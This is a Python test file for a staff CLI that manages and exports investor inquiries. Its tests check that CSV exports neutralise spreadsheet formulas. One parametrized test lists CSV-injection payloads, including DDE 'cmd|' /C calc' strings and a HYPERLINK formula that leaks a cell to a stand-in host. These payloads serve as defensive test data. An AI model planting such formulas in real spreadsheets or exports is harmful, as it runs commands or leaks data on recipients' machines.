"""The office's commands at the terminal, on both kinds of database."""

import asyncio
import csv
import json
import re
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import TypeVar

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from handlers.commands.spreadsheet import cell
from handlers.commands.staff import staff_app
from handlers.stores import Stores
from storage.database import Database
from storage.inquiries import NewInquiry
from storage.inquiry_messages import NewMessage

NOW = datetime(2026, 11, 23, 6, tzinfo=UTC)
T = TypeVar("T")


def stored(url: str, work: Callable[[Stores], Awaitable[T]]) -> T:
    """Do something with the stores."""

    async def run() -> T:
        database = await Database.open(url)
        result = await work(Stores(database))
        await database.close()
        return result

    return asyncio.run(run())


async def two_inquiries(stores: Stores) -> None:
    await stores.inquiries.open(NewInquiry(7, "=Alice()", "alice", "en", "Is there a [red]rent[/] subsidy?"), NOW)
    await stores.messages.add(NewMessage(1, "investor", 7, "=Alice()", "text", "@Three years"), NOW)
    await stores.inquiries.open(NewInquiry(8, "Иван", "", "ru", "+7 900"), NOW)
    await stores.inquiries.close(2, NOW)


@pytest.fixture
def run(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Result]:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("COLUMNS", "200")
    stored(database_url, two_inquiries)
    return lambda *words, **given: CliRunner().invoke(staff_app, ["inquiries", *words], **given)


def test_a_number_that_does_not_exist_is_said(run: Callable[..., Result]) -> None:
    for words in (("show", "99"), ("answer", "99", "Yes"), ("close", "99")):
        result = run(*words)
        assert (result.exit_code, result.stderr) == (1, "There is no inquiry № 99.\n")


def test_an_empty_answer_is_none(run: Callable[..., Result], database_url: str) -> None:
    result = run("answer", "1", "-", input=" \n")
    assert (result.exit_code, result.stderr) == (1, "The answer is empty.\n")
    assert len(stored(database_url, lambda stores: stores.messages.of(1))) == 1


@pytest.mark.parametrize("name", ["inquiries.xlsx", "inquiries"])
def test_a_file_of_another_kind_is_refused(run: Callable[..., Result], tmp_path: Path, name: str) -> None:
    result = run("export", str(tmp_path / name))
    assert (result.exit_code, result.stderr.count("\n")) == (1, 1)
    assert "must end in one of these: .csv, .json" in result.stderr
    assert not (tmp_path / name).exists()


@pytest.mark.parametrize("name", ["inquiries.csv", "inquiries.json"])
def test_a_file_that_is_there_stays_as_it_is(run: Callable[..., Result], tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("precious")
    result = run("export", str(tmp_path / name))
    assert (result.exit_code, "is there already" in result.stderr) == (1, True)
    assert (tmp_path / name).read_text() == "precious"


def test_a_database_that_cannot_be_opened_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://nobody:secret@127.0.0.1:1/none")
    result = CliRunner().invoke(staff_app, ["inquiries"])
    assert result.exit_code == 2
    assert "secret" not in result.stderr
    assert "Traceback" not in result.stderr


def test_a_wrong_setting_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STAFF_CHAT_ID", "5")
    result = CliRunner().invoke(staff_app, ["inquiries"])
    assert (result.exit_code, result.stderr.partition(":")[0]) == (2, "STAFF_CHAT_ID")


def test_the_list_shows_what_is_open_or_everything(run: Callable[..., Result]) -> None:
    listed = run().stdout
    assert "№ 1 · waiting for an answer" in listed
    assert "=Alice() · @alice" in listed
    assert "Is there a [red]rent[/] subsidy?" in listed
    assert "№ 2" not in listed
    assert "№ 2 · closed" in run("--all").stdout


def test_moments_are_in_the_time_of_the_office(run: Callable[..., Result], monkeypatch: pytest.MonkeyPatch) -> None:
    assert "Received (Asia/Shanghai)" in run().stdout
    assert "2026-11-23 14:00" in run().stdout
    monkeypatch.setenv("OFFICE_TIMEZONE", "Europe/Moscow")
    assert "2026-11-23 09:00 · =Alice()" in run("show", "1").stdout


def test_one_is_shown_with_its_conversation(run: Callable[..., Result]) -> None:
    shown = run("show", "1").stdout
    assert "Is there a [red]rent[/] subsidy?" in shown
    assert "=Alice() · not delivered yet" in shown
    assert "@Three years" in shown


def test_an_answer_waits_for_the_bot(run: Callable[..., Result], database_url: str) -> None:
    result = run("answer", "1", "Yes", "--name", "Wang")
    assert result.stdout == "The answer to № 1 is stored. The running bot sends it within seconds.\n"
    message = stored(database_url, lambda stores: stores.messages.of(1))[-1]
    assert (message.author_name, message.text, message.delivery) == ("Wang", "Yes", "waiting")
    inquiry = stored(database_url, lambda stores: stores.inquiries.get(1))
    assert inquiry is not None
    assert (inquiry.state, inquiry.taken_by_name) == ("answered", "Wang")


def test_an_answer_to_a_closed_one_opens_it_again(run: Callable[..., Result], database_url: str) -> None:
    assert run("answer", "2", "-", input="Да\n").exit_code == 0
    inquiry = stored(database_url, lambda stores: stores.inquiries.get(2))
    assert inquiry is not None
    assert (inquiry.state, inquiry.answer) == ("answered", "Да")


def test_closing_leaves_a_notice_for_the_investor(run: Callable[..., Result], database_url: str) -> None:
    assert run("close", "1").stdout == "№ 1 is closed.\n"
    assert run("close", "1").stdout == "№ 1 is already closed.\n"
    kinds = [message.kind for message in stored(database_url, lambda stores: stores.messages.of(1))]
    assert kinds == ["text", "closed"]


def test_an_export_opens_in_a_spreadsheet_and_computes_nothing(run: Callable[..., Result], tmp_path: Path) -> None:
    file = tmp_path / "inquiries.csv"
    assert run("export", str(file)).stdout == f"{file}: 2 inquiries.\n"
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as opened:
        first, second = csv.DictReader(opened)
    assert (first["id"], first["name"], first["state"]) == ("1", "'=Alice()", "open")
    assert first["messages"] == "'=Alice(): @Three years"
    assert (second["question"], second["name"]) == ("'+7 900", "Иван")


def test_an_export_as_json_holds_everything(run: Callable[..., Result], tmp_path: Path) -> None:
    file = tmp_path / "inquiries.json"
    assert run("export", str(file)).exit_code == 0
    first, second = json.loads(file.read_text("utf-8"))
    assert first["messages"][0]["text"] == "@Three years"
    assert first["opened_at"] == "2026-11-23T06:00:00+00:00"
    assert second["question"] == "+7 900"


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+7 913 123-45-67", "-1", "@x", "\tx", "\rx", " =1", "\u3000=1", '"=1', "\ufeff=1"),
        *(
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "=cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://x?"&A1)',
        ),
    ],
)
def test_a_cell_that_looks_like_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@given(st.text(st.sampled_from("=+-@＝ \t\r\n;\"'a1,|\xa0"), max_size=12) | st.text())
def test_wherever_lines_are_divided_nothing_begins_a_formula(text: str) -> None:
    shown = cell(text)
    for part in re.split("[;\t\r\n]", shown):
        assert not part.lstrip(' \xa0\u3000\ufeff"`').startswith(tuple("=+-@＝＋－＠"))
    assert not shown.startswith(("\t", "\r"))
    assert shown.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["", "1+1", "Иван", "'=1", "a-b; c", "a, =b", "https://x/?a=b", "8 913 123-45-67"])
def test_any_other_cell_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(("language", "said"), [("zh", "没有99号咨询。"), ("ru", "Обращения № 99 нет.")])
def test_staff_read_their_language(
    run: Callable[..., Result], monkeypatch: pytest.MonkeyPatch, language: str, said: str
) -> None:
    monkeypatch.setenv("STAFF_LANGUAGE", language)
    assert run("show", "99").stderr == f"{said}\n"
